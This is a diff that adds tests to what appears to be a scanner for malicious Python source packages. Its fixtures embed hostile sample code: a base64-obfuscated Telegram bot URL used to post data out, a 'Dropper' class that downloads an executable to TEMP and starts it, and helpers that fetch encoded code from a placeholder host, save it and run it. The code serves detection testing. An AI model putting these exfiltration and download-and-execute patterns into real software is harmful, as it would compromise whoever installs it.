@@ -307,7 +307,61 @@ def test_package_installed_from_a_repository_on_import() -> None:
     )
     files = {"setup.py": SETUP, "demo/__init__.py": lib}
     items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
+    # the helper's command, and the call that hands it the repository (judged at the call)
     assert {(f.location.line, f.severity) for f in hits(items, "PKG001")} == {
         (4, Severity.HIGH),
         (6, Severity.MEDIUM),
+        (7, Severity.HIGH),
     }
+
+
+def test_values_split_across_modules_by_star_imports_still_fold() -> None:
+    hook = base64.b64encode(b"https://api.telegram.org/bot1:abc/sendMessage").decode()
+    codes = (
+        "import base64 as b64\n\ndef d(s):\n    return b64.b64decode(s).decode()\n\n"
+        f"URL = '{hook}'\n"
+    )
+    for star in ("from demo.codes import *", "from .codes import *"):
+        send = f"{star}\nimport requests\n\ndef go(x):\n"
+        send += "    requests.post(d(URL), data={'t': x})\n"
+        files = {
+            "setup.py": SETUP,
+            "demo/__init__.py": "",
+            "demo/codes.py": codes,
+            "demo/send.py": send,
+        }
+        items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
+        hit = hits(items, "PKG007")[0]
+        assert hit.location.line == 5 and hit.severity is Severity.HIGH
+        assert "api.telegram.org" in hit.evidence
+
+
+def test_helpers_that_download_then_start_a_file() -> None:
+    lib = (
+        "import os, urllib.request\n\nclass Dropper:\n    @staticmethod\n"
+        "    def fetch(url):\n        path = os.path.join(os.getenv('TEMP'), 'a.exe')\n"
+        "        with open(path, 'wb') as out:\n"
+        "            out.write(urllib.request.urlopen(url).read())\n        return path\n"
+        "    @staticmethod\n    def start(path):\n        os.system(f'start {path}')\n\n"
+        "def go():\n    Dropper.start(Dropper.fetch('https://x.invalid/a'))\n"
+        "def fine():\n    Dropper.start('notepad.exe')\n"
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": lib}
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
+    assert [(f.location.line, f.severity) for f in hits(items, "PKG003")] == [(15, Severity.HIGH)]
+
+
+def test_downloaded_code_handed_through_helpers_to_a_process() -> None:
+    lib = (
+        "import base64, subprocess, requests\n\n"
+        "def fetch():\n    r = requests.get('https://x.invalid/p')\n"
+        "    return base64.b64decode(r.text).decode()\n\n"
+        "def save(code):\n    path = '/tmp/s.py'\n    with open(path, 'w') as f:\n"
+        "        f.write(code)\n    return path\n\n"
+        "def start(p):\n    subprocess.call(['pythonw', p])\n\n"
+        "def main():\n    start(save(fetch()))\n    start('/usr/bin/true')\n\n"
+        "if __name__ == '__main__':\n    main()\n"
+    )
+    files = {"setup.py": SETUP, "demo/__init__.py": lib}
+    items = run("demo-1.0.tar.gz", sdist("demo", "1.0", files))
+    assert [(f.location.line, f.severity) for f in hits(items, "PKG003")] == [(17, Severity.HIGH)]
